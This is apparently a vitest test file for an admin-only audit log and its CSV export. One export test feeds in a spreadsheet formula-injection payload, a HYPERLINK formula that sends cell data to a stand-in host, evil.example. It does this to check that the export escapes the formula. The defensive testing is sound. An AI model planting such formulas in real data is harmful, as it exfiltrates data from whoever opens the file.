import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { seedSandboxData } from '@/lib/accounts/seed';
import { upsertSignedInUser } from '@/lib/auth/users';
import {
  AUDIT_CSV_HEADER,
  auditCreationWords,
  exportAuditLog,
  listAuditLog,
  type AuditEvent,
  type AuditLogPage,
} from '@/lib/requests/audit-log';
import { cancelRequest, createAndSubmitRequest, createDraft } from '@/lib/requests/requests';
import { alice, bob, carol, dave, roleSpec } from '@/lib/requests/test-fixtures';
import type { Result } from '@/lib/result';
import { createTestPglite, type TestDatabase } from '@/lib/testing/pglite';

let test: TestDatabase;
const requestIds: string[] = [];

function value<T>(result: Result<T>): T {
  if (!result.ok) throw new Error(`${result.code}: ${result.message}`);
  return result.value;
}

beforeAll(async () => {
  test = await createTestPglite();
  await seedSandboxData();
  await upsertSignedInUser(test.db, {
    id: alice.id,
    email: 'Alice.Adams@acme.example',
    emailVerified: true,
    name: 'Alice Adams',
    groups: [],
  });
  // Alice: three requests submitted (draft → pending), the second cancelled; Dave: one draft.
  for (const name of ['audit-one', 'audit-two', 'audit-three']) {
    const request = value(
      await createAndSubmitRequest(alice, {
        kind: 'create',
        spec: roleSpec({ name }),
        justification: 'audit',
      }),
    );
    requestIds.push(request.id);
  }
  value(await cancelRequest(alice, { requestId: requestIds[1], reason: 'not needed' }));
  value(
    await createDraft(dave, { kind: 'create', spec: roleSpec({ name: 'audit-dave' }), justification: 'x' }),
  );
});

afterAll(async () => {
  await test.close();
});

async function allPages(query: Record<string, string | number>): Promise<AuditEvent[][]> {
  const pages: AuditEvent[][] = [];
  let before: string | null = null;
  do {
    const page: AuditLogPage = value(await listAuditLog(carol, { ...query, ...(before ? { before } : {}) }));
    pages.push(page.events);
    before = page.nextBefore;
  } while (before !== null && pages.length < 20);
  return pages;
}

describe('the audit log', () => {
  it('is for admins only', async () => {
    for (const who of [alice, bob, dave]) {
      expect(await listAuditLog(who)).toMatchObject({ ok: false, code: 'forbidden' });
    }
  });

  it('lists every event newest first, with the request and the actor', async () => {
    const { events, nextBefore } = value(await listAuditLog(carol));
    expect(nextBefore).toBeNull();
    const ids = events.map((event) => Number(event.id));
    expect(ids).toEqual([...ids].sort((a, b) => b - a));
    const cancelled = events[1];
    expect(cancelled).toMatchObject({
      requestId: requestIds[1],
      roleName: 'audit-two',
      accountId: '444455556666',
      accountAlias: 'acme-production',
      actorId: 'alice',
      actorName: 'Alice Adams',
      actorEmail: 'alice.adams@acme.example',
      from: 'pending',
      to: 'cancelled',
      reason: 'not needed',
      requestVersion: 1,
    });
    expect(cancelled?.specSha256).toMatch(/^[0-9a-f]{64}$/);
    expect(events[0]).toMatchObject({ actorId: 'dave', actorName: null, to: 'draft' });
  });

  it('filters by request, by actor id or e-mail, and by the state moved into', async () => {
    const byRequest = value(await listAuditLog(carol, { request: requestIds[1] })).events;
    expect(byRequest.map((event) => [event.from, event.to])).toEqual([
      ['pending', 'cancelled'],
      ['draft', 'pending'],
      [null, 'draft'],
    ]);
    const byEmail = value(await listAuditLog(carol, { actor: 'ALICE.ADAMS@acme.example' })).events;
    const byId = value(await listAuditLog(carol, { actor: 'alice' })).events;
    expect(byEmail.length).toBe(7);
    expect(byId).toEqual(byEmail);
    const dave = value(await listAuditLog(carol, { actor: 'dave', state: 'draft' })).events;
    expect(dave.map((event) => event.roleName)).toEqual(['audit-dave']);
    const cancelled = value(await listAuditLog(carol, { state: 'cancelled', request: '' })).events;
    expect(cancelled.map((event) => event.requestId)).toEqual([requestIds[1]]);
    expect(value(await listAuditLog(carol, { actor: 'nobody' })).events).toEqual([]);
  });

  it('pages with a keyset cursor: every event once, in order', async () => {
    const everything = value(await listAuditLog(carol)).events;
    const pages = await allPages({ pageSize: 3 });
    expect(pages.map((page) => page.length)).toEqual([3, 3, 2]);
    expect(pages.flat()).toEqual(everything);
    const filtered = await allPages({ pageSize: 2, actor: 'alice', state: 'pending' });
    expect(filtered.flat().map((event) => event.roleName)).toEqual(['audit-three', 'audit-two', 'audit-one']);
  });

  it('reports bad filters per field', async () => {
    const invalid = await listAuditLog(carol, { request: '1234', state: 'lost', before: 'abc' });
    expect(invalid.ok ? null : Object.keys(invalid.fieldErrors ?? {}).sort()).toEqual([
      'before',
      'request',
      'state',
    ]);
  });
});

/** The whole export as text, read as a download would read it. */
async function exported(query: Record<string, string> = {}): Promise<string> {
  let text = '';
  for await (const chunk of value(await exportAuditLog(carol, query))) text += chunk;
  return text;
}

/** RFC 4180 records as arrays of fields (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let fields: string[] = [];
  let field = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index];
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        field += '"';
        index += 1;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      fields.push(field);
      field = '';
    } else if (char === '\r' && text[index + 1] === '\n') {
      fields.push(field);
      records.push(fields);
      fields = [];
      field = '';
      index += 1;
    } else field += char;
  }
  return records;
}

describe('the audit log export', () => {
  it('is for admins only, and refuses bad filters before streaming anything', async () => {
    expect(await exportAuditLog(bob, {})).toMatchObject({ ok: false, code: 'forbidden' });
    expect(await exportAuditLog(alice, {})).toMatchObject({ ok: false, code: 'forbidden' });
    expect(await exportAuditLog(carol, { state: 'sideways', request: 'nope' })).toMatchObject({
      ok: false,
      code: 'invalid_input',
      fieldErrors: { state: [expect.any(String)], request: [expect.any(String)] },
    });
  });

  it('writes the filtered events, newest first, as the list shows them, one record each', async () => {
    const csv = parseCsv(await exported({ actor: 'alice.adams@ACME.example', state: 'pending' }));
    expect(csv[0]).toEqual([...AUDIT_CSV_HEADER]);
    const listed = (await allPages({ actor: 'alice.adams@ACME.example', state: 'pending' })).flat();
    expect(listed.length).toBeGreaterThan(0);
    expect(csv.slice(1).map((record) => record[0])).toEqual(listed.map((event) => event.id));
    const first = listed[0]!;
    expect(csv[1]).toEqual([
      first.id,
      first.at.toISOString(),
      alice.id,
      'Alice Adams',
      first.actorEmail,
      first.requestId,
      first.roleName,
      first.accountId,
      first.accountAlias ?? '',
      'draft',
      'pending',
      first.reason ?? '',
      String(first.requestVersion),
      first.specSha256,
    ]);
  });

  it('escapes what a spreadsheet would run as a formula, and quotes what RFC 4180 requires', async () => {
    const request = value(
      await createAndSubmitRequest(alice, {
        kind: 'create',
        spec: roleSpec({ name: 'audit-csv' }),
        justification: 'x',
      }),
    );
    const reason = '=HYPERLINK("http://evil.example/?"&A1, "click"),\nsecond line';
    value(await cancelRequest(alice, { requestId: request.id, reason }));
    const text = await exported({ request: request.id, state: 'cancelled' });
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1, ""click""),\nsecond line"`);
    const csv = parseCsv(text);
    expect(csv).toHaveLength(2);
    expect(csv[1]?.[11]).toBe(`'${reason}`);
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('streams every matching event, past one batch, with no cap', async () => {
    const request = value(
      await createAndSubmitRequest(alice, {
        kind: 'create',
        spec: roleSpec({ name: 'audit-many' }),
        justification: 'x',
      }),
    );
    await test.db
      .insertInto('request_events')
      .values(
        Array.from({ length: 1234 }, (_, index) => ({
          request_id: request.id,
          actor_id: 'system:bulk',
          from_state: 'pending' as const,
          to_state: 'pending' as const,
          reason: `bulk ${index}`,
          request_version: 1,
          spec_sha256: request.specSha256,
        })),
      )
      .execute();
    const csv = parseCsv(await exported({ request: request.id, actor: 'system:bulk' }));
    expect(csv).toHaveLength(1 + 1234);
    expect(csv[1]?.[11]).toBe('bulk 1233');
    expect(csv.at(-1)?.[11]).toBe('bulk 0');
    expect(new Set(csv.slice(1).map((record) => record[0])).size).toBe(1234);
  });
});

describe('auditCreationWords', () => {
  it('reads a request’s first event as created, not as “created → draft”', () => {
    expect(auditCreationWords({ from: null, to: 'draft' })).toBe('Created as a draft');
    expect(auditCreationWords({ from: null, to: 'pending' })).toBe('Created as pending approval');
    expect(auditCreationWords({ from: 'draft', to: 'pending' })).toBeNull();
  });
});
